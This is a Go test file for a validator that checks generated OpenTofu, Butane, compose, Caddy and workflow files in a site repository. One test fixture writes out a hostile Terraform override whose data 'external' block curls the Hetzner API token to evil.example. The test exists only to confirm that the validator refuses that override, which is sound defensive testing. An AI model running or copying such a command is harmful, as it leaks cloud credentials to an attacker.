package validate_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5"

	"github.com/nassella/nassella/generator/examples"
	"github.com/nassella/nassella/generator/validate"
	"github.com/nassella/nassella/generator/validate/caddycheck"
	"github.com/nassella/nassella/internal/siterepo"
	"github.com/nassella/nassella/internal/testenv/testtool"
)

// tofu returns the OpenTofu binary the tests must use (.ci/tools.sh builds it).
func tofu(t *testing.T) string {
	t.Helper()
	return testtool.Require(t, "NASSELLA_TOFU", ".ci/tools.sh")
}

// Every golden tree passes every check, OpenTofu with the real hcloud provider included.
func TestGoldenTreesAreValid(t *testing.T) {
	bin := tofu(t)
	for _, name := range examples.Names() {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join("..", "testdata", "golden", name)
			r := validate.Repo(context.Background(), dir, siterepo.Options{}, validate.Options{Tofu: bin})
			if err := r.Err(); err != nil {
				t.Fatal(err)
			}
			names := map[string]bool{}
			for _, c := range r.Checks {
				if c.Skipped != "" {
					t.Errorf("%s skipped: %s", c.Name, c.Skipped)
				}
				names[c.Name] = true
			}
			for _, want := range []string{"site.yaml", "generated files", "butane (strict)", "user_data size", "compose-go", "caddy adapter", "actionlint", "opentofu validate"} {
				if !names[want] {
					t.Errorf("check %q did not run", want)
				}
			}
		})
	}
}

// copyGolden copies a golden tree to a temp folder a test may break.
func copyGolden(t *testing.T, name string) string {
	t.Helper()
	src := filepath.Join("..", "testdata", "golden", name)
	dst := t.TempDir()
	err := filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dst, rel)), 0o755); err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dst, rel), data, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	return dst
}

func failed(r *validate.Report, check string) string {
	for _, c := range r.Checks {
		if c.Name == check && c.Err != nil {
			return c.Err.Error()
		}
	}
	return ""
}

func TestBrokenTrees(t *testing.T) {
	bin := tofu(t)
	cases := []struct {
		name   string
		file   string
		edit   func(string) string
		check  string
		detail string
	}{
		{"hand-edited compose", "apps/vaultwarden/compose.yaml", func(s string) string { return s + "\n" }, "generated files", "apps/vaultwarden/compose.yaml"},
		{"broken terraform", "terraform/server.tf", func(s string) string { return s + "\nresource \"hcloud_server\" \"x\" { nonsense = 1 }\n" }, "opentofu validate", "nonsense"},
		{"unformatted terraform", "terraform/outputs.tf", func(s string) string { return strings.Replace(s, "  value", "value", 1) }, "opentofu validate", "fmt"},
		{"ignition out of step", "host/ignition.json", func(s string) string { return strings.Replace(s, "3.3.0", "3.4.0", 1) }, "butane (strict)", "not the translation"},
		{"butane warning", "host/butane.yaml", func(s string) string {
			return strings.Replace(s, "variant: flatcar", "variant: flatcar\nunknown_key: 1", 1)
		}, "butane (strict)", "unknown_key"},
		{"compose unknown key", "apps/vaultwarden/compose.yaml", func(s string) string {
			return strings.Replace(s, "    restart:", "    restrt: always\n    restart:", 1)
		}, "compose-go", "restrt"},
		{"compose undeclared variable", "apps/vaultwarden/compose.yaml", func(s string) string {
			return strings.Replace(s, `SIGNUPS_ALLOWED: "false"`, `SIGNUPS_ALLOWED: "${NOT_A_SECRET}"`, 1)
		}, "compose-go", "NOT_A_SECRET"},
		{"workflow mistake", ".github/workflows/nassella-plan.yml", func(s string) string {
			return strings.Replace(s, "runs-on: ubuntu-latest", "runs-on: ubuntu-latest\n    if: ${{ github.evnt_name }}", 1)
		}, "actionlint", "evnt_name"},
		{"caddyfile typo", "proxy/Caddyfile", func(s string) string { return strings.Replace(s, "reverse_proxy", "revers_proxy", 1) }, "caddy adapter", "revers_proxy"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := copyGolden(t, "one-app")
			p := filepath.Join(dir, filepath.FromSlash(tc.file))
			data, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(tc.edit(string(data))), 0o644); err != nil {
				t.Fatal(err)
			}
			r := validate.Repo(context.Background(), dir, siterepo.Options{}, validate.Options{Tofu: bin})
			msg := failed(r, tc.check)
			if msg == "" {
				t.Fatalf("check %q did not fail; report: %v", tc.check, r.Err())
			}
			if !strings.Contains(msg, tc.detail) {
				t.Errorf("check %q failed with %q, want it to mention %q", tc.check, msg, tc.detail)
			}
		})
	}
}

func TestInvalidSiteStopsEarly(t *testing.T) {
	dir := copyGolden(t, "one-app")
	if err := os.WriteFile(filepath.Join(dir, "site.yaml"), []byte("version: 1\nname: Bad\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := validate.Repo(context.Background(), dir, siterepo.Options{}, validate.Options{})
	if len(r.Checks) != 1 || !strings.Contains(failed(r, "site.yaml"), "site.yaml:2:7") {
		t.Fatalf("want only a failed site.yaml check naming line 2, got %v", r.Err())
	}
}

func TestCaddyCheck(t *testing.T) {
	if err := caddycheck.Check("Caddyfile", []byte("a.example {\n\treverse_proxy app:80\n}\n")); err != nil {
		t.Errorf("valid Caddyfile refused: %v", err)
	}
	if err := caddycheck.Check("Caddyfile", []byte("a.example {\n    reverse_proxy app:80\n}\n")); err == nil {
		t.Error("an unformatted Caddyfile passed")
	}
}

// An override file that swaps the server's user_data and sends the Hetzner token away
// through a data "external", a .tf.json beside it and a file in host/ are refused by name:
// nassella owns terraform/ and host/. OpenTofu's untracked working files are not.
func TestExtraFilesRefused(t *testing.T) {
	dir := copyGolden(t, "one-app")
	extra := map[string]string{
		"terraform/zz_override.tf": `resource "hcloud_server" "main" {
  user_data = "#!/bin/sh\ncurl https://evil.example/"
}

data "external" "leak" {
  program = ["sh", "-c", "curl -d \"$TF_VAR_hcloud_token\" https://evil.example/ >/dev/null; echo {}"]
}
`,
		"terraform/extra.tf.json": `{"output": {"x": {"value": "y"}}}`,
		"host/notes.txt":          "hello\n",
		// Left by tofu init and a local state; the site's .gitignore keeps them out of git.
		"terraform/.terraform/providers/p": "binary",
		"terraform/.terraform.lock.hcl":    "# lock\n",
		"terraform/terraform.tfstate":      "{}",
	}
	for p, body := range extra {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := validate.Repo(context.Background(), dir, siterepo.Options{}, validate.Options{})
	msg := failed(r, validate.ExtraCheck)
	if msg == "" {
		t.Fatalf("a repo with extra Terraform passed; report: %v", r.Err())
	}
	for _, want := range []string{"terraform/zz_override.tf", "terraform/extra.tf.json", "host/notes.txt", "remove them", "nassella owns terraform/ and host/"} {
		if !strings.Contains(msg, want) {
			t.Errorf("message lacks %q:\n%s", want, msg)
		}
	}
	for _, not := range []string{".terraform", "tfstate"} {
		if strings.Contains(msg, not) {
			t.Errorf("OpenTofu's untracked working file refused:\n%s", msg)
		}
	}
}

// OpenTofu's working files are refused once committed: a committed .terraform/ could hold
// a provider binary of anyone's choosing.
func TestCommittedWorkingFilesRefused(t *testing.T) {
	dir := copyGolden(t, "one-app")
	if err := os.MkdirAll(filepath.Join(dir, "terraform", ".terraform", "providers"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "terraform", ".terraform", "providers", "hcloud"), []byte("binary"), 0o755); err != nil {
		t.Fatal(err)
	}
	repo, err := git.PlainInit(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	wt, _ := repo.Worktree()
	if _, err := wt.Add("terraform/.terraform/providers/hcloud"); err != nil {
		t.Fatal(err)
	}
	r := validate.Repo(context.Background(), dir, siterepo.Options{}, validate.Options{})
	if msg := failed(r, validate.ExtraCheck); !strings.Contains(msg, "terraform/.terraform (OpenTofu's local working file, committed to git)") {
		t.Fatalf("a committed .terraform/ passed: %q; report: %v", msg, r.Err())
	}
}
